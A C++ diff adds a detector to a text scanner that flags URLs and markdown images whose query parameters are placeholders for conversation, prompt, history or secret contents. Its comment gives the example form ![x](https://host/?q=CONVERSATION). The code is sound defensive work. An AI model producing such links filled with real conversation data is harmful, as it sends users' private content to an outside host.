@@ -51,10 +51,45 @@ bool commands(const Reading& r, std::size_t from) {
   return false;
 }
 
+// A link or an image whose query waits for what was said: ![x](https://host/?q=CONVERSATION), ...?d=<contents>.
+// Placeholders for keys and ids are what manuals of services have.
+bool waits_for_talk(std::string_view value) {
+  constexpr std::string_view kTalk[] = {"conversation", "message", "prompt",  "history", "content",
+                                        "context",      "secret",  "summary", "encoded", "response"};
+  if (value.size() < 6) return false;
+  for (const std::string_view word : kTalk) {
+    if (value.find(word) != std::string_view::npos) return true;
+  }
+  return false;
+}
+
+void find_links(const Reading& r, std::vector<Cue>& cues) {
+  const std::string_view text = r.folded.text;
+  for (std::size_t at = text.find("://"); at != std::string_view::npos && !r.tokens.empty();
+       at = text.find("://", at + 3)) {
+    const std::size_t end = std::min(text.find_first_of(" \n\t\"'`", at), text.size());
+    const std::size_t query = text.find('?', at);
+    if (query == std::string_view::npos || query >= end) continue;
+    for (std::size_t value = text.find('=', query); value < end; value = text.find('=', value + 1)) {
+      const std::size_t begin = value + 1;
+      if (begin >= text.size()) break;
+      const std::size_t stop = std::min(text.find_first_of("&)]", begin), end);
+      const char first = r.given[r.folded.origin[begin]];
+      const bool placeholder =
+          first == '<' || first == '{' || first == '[' || first == '$' || (first >= 'A' && first <= 'Z');
+      if (!placeholder || !waits_for_talk(text.substr(begin, stop - begin))) continue;
+      const std::uint32_t token = token_at(r, at);
+      cues.push_back({Category::kExfiltration, 0.85, token, token_at(r, stop), false});
+      break;
+    }
+  }
+}
+
 }  // namespace
 
 void find_markup(const Reading& r, bool data, std::vector<Cue>& cues) {
   const std::string_view text = r.folded.text;
+  find_links(r, cues);
   const auto add = [&](double strength, std::size_t first, std::size_t last) {
     if (r.tokens.empty()) return;
     const std::size_t end = std::min(last, r.tokens.size() - 1);
